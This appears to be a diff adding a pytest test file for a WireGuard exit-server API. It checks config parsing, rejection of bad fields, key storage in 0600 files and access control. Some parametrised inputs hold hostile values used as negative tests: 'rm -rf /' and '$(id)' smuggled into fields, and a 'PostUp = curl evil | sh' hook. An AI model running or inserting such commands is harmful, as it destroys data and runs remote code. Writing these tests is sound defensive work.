@@ -1,0 +1,161 @@
+"""Exits through an upstream WireGuard server: the provider's wg-quick config parsed field by field
+(a 400 naming the key, never a 500), its keys in 0600 files only, a device's exit through the same
+state + converge flow, an exit in use not removable."""
+
+import stat
+
+import pytest
+import yaml
+from conftest import csrf, wait_run
+
+from pic_api.core import schema, wgquick
+
+# test data (fixed: the parameters below name them, and every test worker must collect the same ids)
+PRIVATE = "COZWBI6MFqDad+5D08xukYtjkheK07E94SeduIfLolY="
+PSK = "ABS3975UfKlKv5xP2p8cSA0mieciuhutQrcJ27p3RnM="
+SERVER = "InnGRSFD74kw7hta1Wgx1R7QFHB6MIbH8lo6F8EYfDo="
+CONFIG = f"""[Interface]
+# a provider's config, as downloaded
+PrivateKey = {PRIVATE}
+Address = 10.66.66.2/32, fd42:42:42::2/128
+DNS = 10.66.66.1, fd42:42:42::1
+
+[Peer]
+PublicKey = {SERVER}
+PresharedKey = {PSK}
+Endpoint = exit.example.net:51820
+AllowedIPs = 0.0.0.0/0, ::/0
+PersistentKeepalive = 21
+"""
+
+
+def add_exit(client, name="home", config=CONFIG, **more):
+    return client.post("/api/exits", json={"name": name, "config": config, **more}, headers=csrf(client))
+
+
+def test_parse_keeps_the_public_parts_and_returns_the_secrets_apart():
+    fields, secrets = wgquick.parse(CONFIG)
+    assert fields == {"endpoint": "exit.example.net:51820", "address": "10.66.66.2/32", "dns": ["10.66.66.1"],
+                      "public_key": SERVER, "keepalive": 21}
+    assert secrets == {"private_key": PRIVATE, "preshared_key": PSK}
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "field"),
+    [
+        (f"PrivateKey = {PRIVATE}", "PrivateKey = not-a-key", "config.PrivateKey"),
+        (f"PrivateKey = {PRIVATE}\n", "", "config.PrivateKey"),
+        ("Address = 10.66.66.2/32, fd42:42:42::2/128", "Address = 10.66.66.999/32", "config.Address"),
+        ("Address = 10.66.66.2/32, fd42:42:42::2/128", "Address = fd42:42:42::2/128", "config.Address"),
+        ("DNS = 10.66.66.1, fd42:42:42::1", "DNS = 10.66.66.1; rm -rf /", "config.DNS"),
+        (f"PublicKey = {SERVER}", "PublicKey = AAAA", "config.PublicKey"),
+        (f"PresharedKey = {PSK}", "PresharedKey = short", "config.PresharedKey"),
+        ("Endpoint = exit.example.net:51820", "Endpoint = exit.example.net", "config.Endpoint"),
+        ("Endpoint = exit.example.net:51820", "Endpoint = exit.example.net:99999", "config.Endpoint"),
+        ("Endpoint = exit.example.net:51820", "Endpoint = $(id):51820", "config.Endpoint"),
+        ("AllowedIPs = 0.0.0.0/0, ::/0", "AllowedIPs = 10.66.66.0/24", "config.AllowedIPs"),
+        ("PersistentKeepalive = 21", "PersistentKeepalive = often", "config.PersistentKeepalive"),
+        ("[Peer]", "[Peer]\nPostUp = curl evil | sh", "config.PostUp"),
+        ("[Peer]\n", "", "config.Peer"),
+        ("[Interface]", "Table = off\n[Interface]", "config"),
+    ],
+)
+def test_a_bad_config_is_refused_naming_its_key(admin, config, old, new, field):
+    bad = CONFIG.replace(old, new, 1)
+    assert bad != CONFIG
+    resp = add_exit(admin, config=bad)
+    assert resp.status_code == 400, resp.get_json()
+    body = resp.get_json()
+    assert field in body["fields"], body
+    assert PRIVATE not in resp.get_data(as_text=True) and PSK not in resp.get_data(as_text=True)
+    assert admin.get("/api/exits").get_json() == {"exits": []}
+    assert not config.exits_dir.exists() or not any(config.exits_dir.iterdir())
+
+
+@pytest.mark.parametrize(("body", "field"), [
+    ({"name": "Bad Name", "config": CONFIG}, "name"),
+    ({"name": "waytoolongname", "config": CONFIG}, "name"),
+    ({"name": "home", "config": CONFIG, "kind": "openvpn"}, "kind"),
+    ({"name": "home"}, "config"),
+    ({"name": "home", "config": 7}, "config"),
+])
+def test_a_bad_request_is_refused_naming_its_field(admin, body, field):
+    resp = admin.post("/api/exits", json=body, headers=csrf(admin))
+    assert resp.status_code == 400 and field in resp.get_json()["fields"], resp.get_json()
+
+
+def test_an_exit_is_kept_without_its_secrets(app, admin, config):
+    resp = add_exit(admin)
+    assert resp.status_code == 202, resp.get_json()
+    info = wait_run(app, resp.get_json()["run_id"])
+    assert info["tags"] == ["exits"]
+    state = yaml.safe_load(config.state_file.read_text())
+    assert state["exits"] == [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
+                               "address": "10.66.66.2/32", "dns": ["10.66.66.1"], "public_key": SERVER,
+                               "keepalive": 21}]
+    key, psk = config.exits_dir / "home.key", config.exits_dir / "home.psk"
+    assert key.read_text() == PRIVATE + "\n" and psk.read_text() == PSK + "\n"
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and stat.S_IMODE(psk.stat().st_mode) == 0o600
+    kept = [config.state_file, *config.state_dir.iterdir(), *config.run_dir.rglob("*")]
+    if config.log_file and config.log_file.exists():
+        kept.append(config.log_file)
+    for path in kept:
+        if path.is_file():
+            text = path.read_text(errors="replace")
+            assert PRIVATE not in text and PSK not in text, path
+    listed = admin.get("/api/exits").get_json()["exits"]
+    assert listed == [{**state["exits"][0], "devices": [], "keys_stored": True, "preshared_key": True}]
+    assert add_exit(admin).status_code == 409
+
+
+def test_a_device_uses_an_exit_and_the_exit_cannot_go_while_it_does(app, admin, config):
+    wait_run(app, add_exit(admin).get_json()["run_id"])
+    resp = admin.post("/api/peers", json={"name": "phone", "route": "full"}, headers=csrf(admin))
+    assert resp.status_code == 201
+    wait_run(app, resp.get_json()["run_id"])
+
+    resp = admin.patch("/api/peers/phone", json={"exit": "nope"}, headers=csrf(admin))
+    assert resp.status_code == 400 and "exit" in resp.get_json()["fields"]
+    resp = admin.patch("/api/peers/phone", json={"exit": "home"}, headers=csrf(admin))
+    assert resp.status_code == 200, resp.get_json()
+    assert resp.get_json()["peer"]["exit"] == "home"
+    assert wait_run(app, resp.get_json()["run_id"])["tags"] == ["exits"]
+    assert admin.get("/api/exits/home").get_json()["exit"]["devices"] == ["phone"]
+    # a split device sends only the cell's networks to the cell: no exit for it
+    resp = admin.patch("/api/peers/phone", json={"route": "split"}, headers=csrf(admin))
+    assert resp.status_code == 400 and "exit" in resp.get_json()["fields"]
+
+    resp = admin.delete("/api/exits/home", headers=csrf(admin))
+    assert resp.status_code == 409 and "phone" in resp.get_json()["fields"]["name"]
+    assert (config.exits_dir / "home.key").exists()
+
+    resp = admin.patch("/api/peers/phone", json={"exit": ""}, headers=csrf(admin))
+    assert resp.status_code == 200 and "exit" not in resp.get_json()["peer"]
+    wait_run(app, resp.get_json()["run_id"])
+    resp = admin.delete("/api/exits/home", headers=csrf(admin))
+    assert resp.status_code == 202
+    wait_run(app, resp.get_json()["run_id"])
+    assert admin.get("/api/exits").get_json() == {"exits": []}
+    assert not (config.exits_dir / "home.key").exists() and not (config.exits_dir / "home.psk").exists()
+    assert admin.delete("/api/exits/home", headers=csrf(admin)).status_code == 404
+
+
+def test_a_member_may_not_touch_exits(peer_client):
+    assert peer_client.get("/api/exits").status_code == 403
+    assert add_exit(peer_client).status_code == 403
+
+
+def test_state_vars_name_the_exits_and_their_devices_apart_from_the_peers():
+    state = schema.default_state("home")
+    state["exits"] = [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
+                       "address": "10.66.66.2/32", "public_key": SERVER}]
+    state["peers"] = [{"name": "phone", "public_key": SERVER, "ip": "10.0.0.2", "route": "full", "exit": "home"}]
+    out = schema.state_to_vars(state)
+    assert out["pic_exits"] == [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
+                                 "address": "10.66.66.2/32", "public_key": SERVER, "keepalive": 25}]
+    assert out["pic_exit_peers"] == [{"name": "phone", "ip": "10.0.0.2", "exit": "home"}]
+    assert "exit" not in out["pic_peers"][0]
+    state["exits"].append(dict(state["exits"][0]))
+    with pytest.raises(schema.StateError) as err:
+        schema.validate_state(state)
+    assert "exits[1].name" in err.value.fields
